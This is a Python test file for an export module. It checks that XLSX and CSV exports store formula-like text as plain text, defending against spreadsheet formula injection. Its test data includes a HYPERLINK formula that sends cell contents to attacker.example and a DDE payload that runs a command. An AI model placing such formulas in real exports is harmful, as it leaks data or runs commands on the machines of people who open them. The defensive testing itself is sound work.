"""Exports never hand a spreadsheet a formula (CWE-1236): a text starting with = + - @, a tab or a carriage return
is written as text (XLSX: a string cell with a quote prefix, never a formula; CSV: a leading '), and numbers,
negative ones included, stay numbers. Checked by opening the files with openpyxl and the csv module."""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook

from projection.exports.tabular import csv_response, xlsx_response
from tests.projection.test_indicators import Events, enterprise

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"点击查看")',
    "=1+1",
    "+86-27-8888",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
]
PLAIN = ["武汉市知识产权保护中心", "T04", "2019-12-31", "a=b", ""]
NUMBERS = [-5, -2.5, 0, 3, 0.75]
HEADERS = [f"列{n}" for n in range(len(HOSTILE) + len(PLAIN) + len(NUMBERS))]
ROW = [*HOSTILE, *PLAIN, *NUMBERS]


def _sheet(content: bytes):
    return load_workbook(io.BytesIO(content)).active


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return book.read("xl/worksheets/sheet1.xml").decode()


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_xlsx_keeps_formula_like_texts_as_text_and_numbers_as_numbers():
    content = xlsx_response("t", "表", HEADERS, [ROW, [None, *ROW[1:]]], meta=["=说明", ("=标签", "@值")]).body
    sheet = _sheet(content)
    cells = list(sheet.iter_rows(min_row=5, max_row=5))[0]  # the title, a meta row, a blank row, the headers
    for cell, value in zip(cells, ROW):
        if value == "":
            assert cell.value is None and cell.data_type != "f"
        elif isinstance(value, str):
            # (an XML reader turns a stored carriage return into a line feed)
            assert (cell.data_type, cell.value) == ("s", value.replace("\r", "\n")), (value, cell.data_type)
        else:
            assert (cell.data_type, cell.value) == ("n", value), value
    for cell in cells[: len(HOSTILE)]:
        assert cell.quotePrefix, cell.value
    assert not any(cell.quotePrefix for cell in cells[len(HOSTILE):])
    for name, text in (("A1", "=说明"), ("A2", "=标签"), ("B2", "@值")):
        meta = sheet[name]
        assert (meta.data_type, meta.value, meta.quotePrefix) == ("s", text, True)
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert "<f>" not in _sheet_xml(content)  # no formula element in the file itself


def test_csv_prefixes_formula_like_texts_and_leaves_numbers_alone():
    [title, meta, blank, header, row] = _csv_rows(csv_response("t", HEADERS, [ROW], meta=["=说明", ("=标签", "@值")]).body)
    assert (title, meta, blank, header) == (["'=说明"], ["'=标签", "'@值"], [], HEADERS)
    assert row[: len(HOSTILE)] == ["'" + v for v in HOSTILE]
    assert row[len(HOSTILE): len(HOSTILE) + len(PLAIN)] == PLAIN
    assert row[len(HOSTILE) + len(PLAIN):] == ["-5", "-2.5", "0", "3", "0.75"]


async def test_names_recorded_through_the_feed_reach_no_export_as_a_formula(projection, projection_client):
    """The smallest real path: a center and enterprises whose names are formulas, projected, then every export
    downloaded. Today no name is a cell of its own (the attainment's 明细 is a line of figures); when one becomes one, it
    goes through the same writers."""
    hostile = '=HYPERLINK("http://attacker.example","点击")'
    h = Events()
    h.add("enforcement.AssistanceCenterRegistered", "assistance-center-c",
          {"center_id": "c", "name": hostile, "region": "420100", "registered_on": "2019-01-01"})
    h.add("enforcement.OnsiteServiceRecorded", "onsite-service-s", {
        "service_id": "s", "center_id": "c", "region": "420100", "occurred_on": "2019-01-15",
        "enterprises": [enterprise(1, name="@SUM(1+1)"), enterprise(2, name="-2+3")], "summary": "=1+1"})
    await projection.app.state.projector.apply(h.events, path="test")
    params = {"year": 2019, "as_of": "2019-12-31", "known_at": "2100-01-01T00:00:00Z", "region": "420100"}

    for path in ("/v1/attainment.xlsx", "/v1/attainment/regions.xlsx", "/v1/attainment/monthly.xlsx", "/v1/indicators.xlsx"):
        response = await projection_client.get(path, params=params)
        assert response.status_code == 200, response.text
        sheet = _sheet(response.content)
        cells = [c for row in sheet.iter_rows() for c in row]
        assert all(c.data_type != "f" for c in cells), path
        assert all(c.data_type == "s" for c in cells if isinstance(c.value, str)), path
        assert any(c.data_type == "n" for c in cells), path  # the figures are numbers
        assert "<f>" not in _sheet_xml(response.content)
    for path in ("/v1/attainment.csv", "/v1/attainment/regions.csv", "/v1/attainment/monthly.csv", "/v1/indicators.csv"):
        response = await projection_client.get(path, params=params)
        assert response.status_code == 200, response.text
        for row in _csv_rows(response.content)[1:]:
            assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row), (path, row)
